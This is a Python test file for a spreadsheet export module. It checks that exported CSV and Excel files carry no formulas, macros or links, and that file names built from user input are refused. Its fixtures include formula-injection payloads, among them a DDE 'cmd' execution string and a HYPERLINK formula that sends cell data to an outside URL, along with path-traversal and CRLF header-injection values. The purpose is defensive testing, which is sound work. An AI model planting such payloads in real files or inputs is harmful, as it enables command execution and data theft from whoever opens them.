"""What a file can carry: no text becomes a formula, whoever opens it and however."""

import csv
import io
import re
import zipfile
from datetime import date
from decimal import Decimal
from html import unescape

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from adapters.sheets import (
    CELL_CHARACTERS_MAX,
    Cell,
    Column,
    Table,
    Variant,
    as_csv,
    as_workbook,
    file_name,
    safe_text,
)

DAY = date(2020, 6, 30)
FORMULAS = (
    "=1+1",
    "+33 6 00 00 00 00",
    "-2+3",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://exemple.test?"&A2)',
    "\t=1+1",
    "\r\n=1+1",
    " \u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\uff1d1+1",
    "\u22122",
    "Fictive;=1+1;",
    "Fictive,=1+1,",
    'Fictive;"=1+1',
    "Fictive\n=1+1",
    "\x00=1+1",
)
BEGINS_FORMULA = re.compile(
    r"""["\s\u200b-\u200f\u2060-\u2064\ufeff]*[=+\-@\u2212\uff1d\uff0b\uff0d\uff20]"""
)


def table(*cells: Cell) -> Table:
    """One row of these cells, after one that is harmless."""
    columns = [Column(name=f"c{number}", title=f"C{number}") for number in range(len(cells) + 1)]
    return Table(title="Feuille", columns=columns, rows=[["Fictive", *cells]])


def read_back(content: bytes, delimiter: str) -> list[list[str]]:
    """The cells that a spreadsheet finds with that setting."""
    text = content.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


def parts_of(workbook: bytes) -> dict[str, str]:
    """The texts of a workbook's archive, by name."""
    with zipfile.ZipFile(io.BytesIO(workbook)) as archive:
        return {name: archive.read(name).decode() for name in archive.namelist()}


@given(text=st.text(max_size=60) | st.sampled_from(FORMULAS))
@pytest.mark.parametrize("variant", list(Variant))
@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
@example(text='x;"=1+1')
def test_no_text_of_a_csv_file_begins_a_formula_with_any_setting(
    variant: Variant, delimiter: str, text: str
) -> None:
    rows = read_back(as_csv(table(text, text), variant), delimiter)
    assert [cell for row in rows for cell in row if BEGINS_FORMULA.match(cell)] == []


@pytest.mark.parametrize("text", FORMULAS)
def test_no_text_of_a_workbook_is_a_formula_or_a_link(text: str) -> None:
    parts = parts_of(as_workbook(table(text), made_on=DAY))

    sheet = parts["xl/worksheets/sheet1.xml"]
    assert "<f>" not in sheet
    assert "hyperlink" not in sheet
    assert set(re.findall(r'<c r="\w+"[^>]*? t="(\w+)"', sheet)) == {"s"}
    told = [
        unescape(each) for each in re.findall(r"<t[^>]*>(.*?)</t>", parts["xl/sharedStrings.xml"])
    ]
    assert [each for each in told if BEGINS_FORMULA.match(each)] == []


def test_a_workbook_holds_neither_macros_nor_links_to_other_files() -> None:
    names = parts_of(as_workbook(table("Zélie Fictive"), made_on=DAY)).keys()
    assert [name for name in names if re.search("vba|macro|external|embed", name, re.I)] == []


@given(text=st.text(max_size=60))
def test_a_cell_is_one_line_and_loses_none_of_its_letters(text: str) -> None:
    kept = safe_text(text)
    assert kept.splitlines() in ([], [kept])
    assert [c for c in kept if c.isalnum()] == [c for c in text if c.isalnum()]


def test_a_name_that_is_no_formula_is_left_as_it_is() -> None:
    for name in ("Zélie Fictive", "Jean-Noël d’Exemple", "Fictive, Zélie", "née = 1980"):
        assert safe_text(name) == name


def test_excel_is_given_what_a_french_excel_reads() -> None:
    content = as_csv(table("Zélie", Decimal("-1240.50"), DAY, None, 3), Variant.EXCEL)
    assert content.startswith(b"\xef\xbb\xbf")
    assert read_back(content, ";")[1] == ["Fictive", "Zélie", "-1240,50", "30/06/2020", "", "3"]


def test_a_program_is_given_what_rfc_4180_says() -> None:
    content = as_csv(table('dit "la Fictive"', Decimal("1E+3"), DAY, None), Variant.MACHINE)
    assert content.split(b"\r\n")[0] == b'"c0","c1","c2","c3","c4"'
    assert b'"dit ""la Fictive""","1000","2020-06-30",""\r\n' in content
    assert b"\n" not in content.replace(b"\r\n", b"")


def test_amounts_and_days_of_a_workbook_can_be_counted_with() -> None:
    sheet = parts_of(as_workbook(table(Decimal("-1240.50"), DAY), made_on=DAY))[
        "xl/worksheets/sheet1.xml"
    ]
    assert "<v>-1240.50</v>" in sheet
    assert "<v>44012</v>" in sheet


def test_a_text_longer_than_a_cell_is_refused_rather_than_cut() -> None:
    with pytest.raises(ValueError, match="characters at most"):
        as_workbook(table("a" * (CELL_CHARACTERS_MAX + 1)), made_on=DAY)


@pytest.mark.parametrize(
    "part", ["../secret", "a b", 'a"; x="', "a\r\nSet-Cookie: b", "", "É", "a/b"]
)
def test_a_file_is_never_named_by_what_somebody_typed(part: str) -> None:
    with pytest.raises(ValueError, match="slugs"):
        file_name("portefeuille", part, day=DAY, ending="csv")


def test_a_file_says_what_it_is_and_of_which_day() -> None:
    assert (
        file_name("portefeuille", "est", day=DAY, ending="csv") == "portefeuille-est-2020-06-30.csv"
    )
